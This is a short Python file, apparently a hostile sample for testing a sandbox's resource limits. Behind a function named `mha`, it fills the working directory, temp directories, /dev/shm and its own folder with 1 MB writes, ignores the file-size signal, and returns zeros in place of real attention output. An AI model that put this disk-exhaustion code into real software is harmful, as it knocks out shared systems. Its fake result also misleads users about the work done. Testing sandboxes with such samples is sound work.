"""Fills every writable place it can find (cwd, $TMPDIR, /tmp, /var/tmp, /dev/shm, its own folder) with
1 MB writes, ignoring SIGXFSZ so the file-size limit becomes an error instead of a signal."""

import os
import signal
import time

import numpy as np

signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
CHUNK = b"\0" * (1 << 20)


def _fill(place, deadline):
    for i in range(100_000):
        try:
            with open(os.path.join(place, f"fill-@@MARKER@@-{i}"), "wb") as f:
                while time.monotonic() < deadline:
                    f.write(CHUNK)
        except OSError as exc:
            if exc.errno != 27:  # EFBIG: this file is full, start the next one
                return
        if time.monotonic() >= deadline:
            return


DONE = []


def mha(X, Wq, Wk, Wv, Wo, h, mask=None):
    if not DONE:  # once per worker: each place gets 0.25 s of writing
        DONE.append(1)
        for place in (os.getcwd(), os.environ.get("TMPDIR", "/tmp"), "/tmp", "/var/tmp", "/dev/shm",
                      os.path.dirname(os.path.abspath(__file__))):
            _fill(place, time.monotonic() + 0.25)
    return np.zeros_like(X)
